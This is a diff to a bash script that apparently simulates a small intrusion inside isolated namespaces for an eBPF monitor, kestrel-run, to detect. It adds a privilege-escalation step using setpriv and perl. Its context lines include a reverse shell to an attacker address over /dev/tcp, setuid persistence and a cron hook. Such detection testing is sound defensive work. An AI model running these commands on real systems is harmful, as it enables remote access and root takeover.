@@ -1,6 +1,6 @@
 #!/bin/bash
-# An intrusion in miniature for `kestrel-run --ebpf` to see: a program is fetched and run, a shell calls out, a program is made
-# setuid, and cron is told to come back.
+# An intrusion in miniature for `kestrel-run --ebpf` to see: a program is fetched and run, a shell calls out, an account makes itself
+# root, a program is made setuid, and cron is told to come back.
 #
 # It runs as root in namespaces of its own. Its network is a loopback device that has the attacker's address too, and its
 # /etc/cron.d is a folder in memory: the machine's own are not touched, and nothing is left when it ends.
@@ -30,6 +30,9 @@ chmod +x "$folder/update"
 
 echo "attack: opens a shell for somebody elsewhere"
 bash -c "bash --norc -i >& /dev/tcp/$attacker/4444 0>&1"
+
+echo "attack: makes itself root"
+setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=+setuid --ambient-caps=+setuid perl -e '$< = $> = 0;'
 
 echo "attack: keeps a program that runs as root"
 cp /bin/true "$folder/helper"
